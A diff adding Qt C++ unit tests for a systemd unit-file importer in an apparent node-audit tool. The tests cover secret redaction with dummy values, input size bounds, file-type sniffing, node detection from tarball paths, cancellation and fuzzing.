+    const QByteArray unit = "[Service]\n"
+                            "Environment=API_TOKEN=Api-T0ken-Value\n"
+                            "ExecStart=/usr/bin/backup --password=Sup3r-Secret-Arg\n";
+    for (const char* s : kSecrets)
+        QVERIFY(fixture("override.conf").contains(s) || unit.contains(s));
+
+    // In the resource and the findings' texts.
+    const MemoryImport m = runBytes(unit);
+    QCOMPARE(envValue(m, "API_TOKEN"), fp("Api-T0ken-Value") + QStringLiteral("@2"));
+    QCOMPARE(commands(m),
+             QStringList{QStringLiteral("ExecStart@3 /usr/bin/backup --password=%1").arg(fp("Sup3r-Secret-Arg"))});
+
+    // Anywhere in a case: its rows and the stored copies of the files.
+    QTemporaryDir dir;
+    const QString tar = dir.filePath(QStringLiteral("worker-1.tar.gz"));
+    writeFile(tar, tarGzBytes({{QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"),
+                                fixture("override.conf")},
+                               {QStringLiteral("worker-1/etc/systemd/system/backup.service"), unit}}));
+    const QString casePath = dir.filePath(QStringLiteral("case.auditcase"));
+    {
+        auto rep = importIntoCase(casePath, {tar});
+        QVERIFY2(rep.hasValue(), rep.hasValue() ? "" : qPrintable(rep.error().message));
+        QCOMPARE(rep.value().resources, 2);
+    }
+    const QByteArray raw = caseFileBytes(casePath);
+    const QByteArray stored = storedOriginals(casePath);
+    QVERIFY(stored.contains("NO_PROXY=10.0.0.0/8"));
+    for (const char* s : kSecrets) {
+        QVERIFY2(!raw.contains(s), s);
+        QVERIFY2(!stored.contains(s), s);
+    }
+    QVERIFY(raw.contains(fp("Regi5try-S3cret").toUtf8()));
+}
+
+void TestSystemdUnitImporter::emptyAndUnusable()
+{
+    const MemoryImport empty = runBytes("# no settings yet\n\n; nor here\n");
+    QVERIFY(empty.result.hasValue());
+    QVERIFY(hasIssue(empty.issues, QStringLiteral("systemd-unit.empty")));
+    QVERIFY(empty.out.resources.empty());
+    const MemoryImport nothing = runBytes(QByteArray());
+    QVERIFY(nothing.result.hasValue());
+    QVERIFY(nothing.out.resources.empty());
+    const MemoryImport prose = runBytes("this is prose\nand more of it\n");
+    QVERIFY(!prose.result.hasValue());
+    QVERIFY(prose.out.resources.empty());
+    QVERIFY(prose.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::largeInputStaysBounded()
+{
+    // 12,000 commands from /tmp: the resource keeps the first 10,000 and the
+    // findings stop at a hundred, an issue counting the rest.
+    QByteArray bytes = "[Service]\n";
+    for (int i = 0; i < 12000; ++i)
+        bytes += "ExecStartPre=/tmp/job-" + QByteArray::number(i) + "\n";
+    const MemoryImport m = runBytes(bytes);
+    QVERIFY(m.result.hasValue());
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("commands")).toArray().size(), 10000);
+    QCOMPARE(body.value(QStringLiteral("notKept")).toInt(), 2000);
+    QVERIFY(hasIssue(m.issues, QStringLiteral("systemd-unit.too-many")));
+    QCOMPARE(m.out.findings.size(), size_t(100));
+    const Issue* more = findIssue(m.issues, QStringLiteral("systemd-unit.more-findings"));
+    QVERIFY(more);
+    QVERIFY(more->message.startsWith(QLatin1String("11900 more settings match node.systemd.runs-from-temp")));
+    QVERIFY(m.out.resources.front().body.size() < 4 * 1024 * 1024);
+
+    // A command continued over 40,000 lines: read up to the bound, whole words.
+    QByteArray continued = "[Service]\nExecStart=/usr/bin/app \\\n";
+    for (int i = 0; i < 40000; ++i)
+        continued += "  --label=team-" + QByteArray::number(i) + " \\\n";
+    continued += "  --last\nRestart=always\n";
+    const MemoryImport c = runBytes(continued);
+    QVERIFY(c.result.hasValue());
+    QVERIFY(hasIssue(c.issues, QStringLiteral("systemd-unit.too-long")));
+    const QString command = commands(c).value(0);
+    QVERIFY(command.size() <= 256 * 1024 + 20);
+    QVERIFY(command.endsWith(QLatin1String("--label=team-") +
+                             QString::number(command.count(QLatin1String("--label")) - 1)));
+    QCOMPARE(bodyOf(c).value(QStringLiteral("restart")).toString(), QStringLiteral("always")); // the rest read
+
+    // One line of 2 MB: cut by the line reader, the file still read.
+    QByteArray huge = "[Service]\nDescription=" + QByteArray(2 * 1024 * 1024, 'x') + "\nExecStart=/usr/bin/app\n";
+    const MemoryImport h = runBytes(huge);
+    QVERIFY(h.result.hasValue());
+    QCOMPARE(commands(h), QStringList{QStringLiteral("ExecStart@3 /usr/bin/app")});
+    QVERIFY(hasIssue(h.issues, QStringLiteral("systemd-unit.line-too-long")));
+    QVERIFY(h.out.resources.front().body.size() < 2 * 1024 * 1024);
+}
+
+void TestSystemdUnitImporter::cancels()
+{
+    SystemdUnitImporter importer;
+    qint64 seen = 0;
+    QVERIFY(cancelsPromptly(importer, "[Service]\nExecStart=/usr/bin/true\n", 200000, &seen));
+}
+
+void TestSystemdUnitImporter::nodeFromThePath()
+{
+    for (const char* path : {"worker-1/etc/systemd/system/dbus-update.service",
+                             "worker-1/etc/systemd/system/containerd.service.d/override.conf",
+                             "worker-1/lib/systemd/system/ssh.service", "worker-1/usr/lib/systemd/system/fstrim.timer",
+                             "worker-1/home/deploy/.config/systemd/user/tracker-miner.service",
+                             "worker-1/root/.config/systemd/user/tracker-miner.service"}) {
+        const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
+        QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
+    }
+
+    // Through an import of the node's tarball: found by content, under worker-1,
+    // a user's unit with its owner; the kubelet's drop-in to kubelet-flags.
+    QTemporaryDir dir;
+    const QString tar = dir.filePath(QStringLiteral("worker-1.tar.gz"));
+    writeFile(
+        tar,
+        tarGzBytes({{QStringLiteral("worker-1/etc/systemd/system/dbus-update.service"), fixture("dbus-update.service")},
+                    {QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"),
+                     fixture("override.conf")},
+                    {QStringLiteral("worker-1/lib/systemd/system/ssh.service"), fixture("ssh.service")},
+                    {QStringLiteral("worker-1/usr/lib/systemd/system/fstrim.timer"), fixture("fstrim.timer")},
+                    {QStringLiteral("worker-1/home/deploy/.config/systemd/user/tracker-miner.service"),
+                     fixture("tracker-miner.service")},
+                    {QStringLiteral("worker-1/etc/systemd/system/kubelet.service.d/10-kubeadm.conf"),
+                     readFile(dataPath(QStringLiteral("kubelet-flags/10-kubeadm.conf")))}}));
+    const QString casePath = dir.filePath(QStringLiteral("case.auditcase"));
+    auto rep = importIntoCase(casePath, {tar});
+    QVERIFY2(rep.hasValue(), rep.hasValue() ? "" : qPrintable(rep.error().message));
+    QCOMPARE(rep.value().resources, 6);
+    auto cf = CaseFile::open(casePath, CaseFile::Access::ReadOnly);
+    QVERIFY(cf.hasValue());
+    ResourceFilter filter;
+    filter.kind = QStringLiteral("SystemdUnit");
+    filter.bodies = true;
+    const auto objects = ResourceQuery::objects(cf.value().db(), filter);
+    QVERIFY(objects.hasValue());
+    QStringList names;
+    QString owner;
+    for (const ResourceRecord& r : objects.value()) {
+        names << r.namespace_ + QLatin1Char('/') + r.name;
+        if (r.name == QLatin1String("tracker-miner.service"))
+            owner = QJsonDocument::fromJson(r.body.toUtf8()).object().value(QStringLiteral("owner")).toString();
+    }
+    names.sort();
+    QCOMPARE(names,
+             (QStringList{QStringLiteral("worker-1/containerd.service.d/override.conf"),
+                          QStringLiteral("worker-1/dbus-update.service"), QStringLiteral("worker-1/fstrim.timer"),
+                          QStringLiteral("worker-1/ssh.service"), QStringLiteral("worker-1/tracker-miner.service")}));
+    QCOMPARE(owner, QStringLiteral("deploy"));
+    filter.kind = QStringLiteral("KubeletFlags");
+    const auto kubelet = ResourceQuery::objects(cf.value().db(), filter);
+    QVERIFY(kubelet.hasValue());
+    QCOMPARE(kubelet.value().size(), qsizetype(1));
+}
+
+void TestSystemdUnitImporter::sniff_data()
+{
+    QTest::addColumn<QByteArray>("head");
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<QString>("kind"); // the importer the registry picks, "" for none
+    const QString unit = QStringLiteral("systemd-unit");
+    for (const QString& f : QDir(dataPath(QStringLiteral("systemd-unit"))).entryList(QDir::Files, QDir::Name))
+        QTest::newRow(qPrintable(f)) << readFile(dataPath(QStringLiteral("systemd-unit/") + f)) << f << unit;
+    QTest::newRow("a mount unit") << QByteArray("[Unit]\nDescription=Data volume\n\n[Mount]\nWhat=/dev/sdb1\n"
+                                                "Where=/data\nType=xfs\n")
+                                  << "data.mount" << unit;
+    QTest::newRow("a drop-in of one assignment")
+        << QByteArray("[Service]\nEnvironment=\"HTTP_PROXY=http://proxy:3128\"\n") << "http-proxy.conf" << unit;
+    QTest::newRow("cron's own unit, renamed")
+        << QByteArray("[Unit]\nDescription=Regular background program "
+                      "processing daemon\n\n[Service]\nEnvironmentFile=-/etc/"
+                      "default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n")
+        << "notes.txt" << unit;
+
+    // The kubelet's units and drop-ins stay the kubelet-flags importer's.
+    const QString kubelet = QStringLiteral("kubelet-flags");
+    for (const char* f : {"kubelet.service", "eks-kubelet.service", "10-kubeadm.conf", "10-kubelet-args.conf",
+                          "30-kubelet-extra-args.conf", "broken-kubelet.service"})
+        QTest::newRow(f) << readFile(dataPath(QStringLiteral("kubelet-flags/") + QLatin1String(f)))
+                         << QString::fromLatin1(f) << kubelet;
+    QTest::newRow("crontab") << readFile(dataPath(QStringLiteral("cron/crontab"))) << "crontab"
+                             << QStringLiteral("cron");
+    QTest::newRow("sshd_config") << readFile(dataPath(QStringLiteral("sshd-config/sshd_config"))) << "sshd_config"
+                                 << QStringLiteral("sshd-config");
+    QTest::newRow("sudoers") << readFile(dataPath(QStringLiteral("sudoers/90-cloud-init-users"))) << "sudoers"
+                             << QStringLiteral("sudoers");
+
+    // Not units, and nobody's.
+    QTest::newRow("environment file") << QByteArray("# Default settings for openssh-server.\nSSHD_OPTS=\n"
+                                                    "MAILTO=root\nPATH=/usr/bin:/bin\n")
+                                      << "ssh" << QString();
+    QTest::newRow("journald.conf") << QByteArray("[Journal]\nStorage=persistent\nSystemMaxUse=1G\n") << "journald.conf"
+                                   << QString();
+    QTest::newRow("git config") << QByteArray("[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+                                              "[remote \"origin\"]\n\turl = https://git.example/x.git\n")
+                                << "config" << QString();
+    QTest::newRow("desktop entry") << QByteArray("[Desktop Entry]\nType=Application\nName=Notes\n"
+                                                 "Exec=/usr/bin/notes %U\nTerminal=false\n")
+                                   << "notes.desktop" << QString();
+    QTest::newRow("ini with a [Service]")
+        << QByteArray("[Service]\nport = 8080\nhost = 0.0.0.0\nworkers = 4\n") << "app.ini" << QString();
+    QTest::newRow("a setting before the header")
+        << QByteArray("Description=x\n[Unit]\nAfter=network.target\n") << "x.txt" << QString();
+    QTest::newRow("prose") << QByteArray("Put the line in [Service] and set ExecStart= to the binary.\n"
+                                         "Then run systemctl daemon-reload.\nThanks\n")
+                           << "notes.md" << QString();
+    QTest::newRow("empty") << QByteArray() << "x.service" << QString();
+}
+
+void TestSystemdUnitImporter::sniff()
+{
+    QFETCH(QByteArray, head);
+    QFETCH(QString, name);
+    QFETCH(QString, kind);
+    const bool unit = kind == QLatin1String("systemd-unit");
+    QCOMPARE(SystemdUnitImporter().sniff(head.left(ImportSource::kHeadSize)) == Confidence::Structure, unit);
+    QCOMPARE(chosenKind(head, name), kind);
+}
+
+void TestSystemdUnitImporter::fuzz()
+{
+    SystemdUnitImporter importer;
+    QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x7379) > 0);
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("etc/systemd/system/x.service"), 0x737a));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("home/deploy/.config/systemd/user/x.service"), 0x737b));
+}
+
+QTEST_GUILESS_MAIN(TestSystemdUnitImporter)
+#include "TestSystemdUnitImporter.moc"
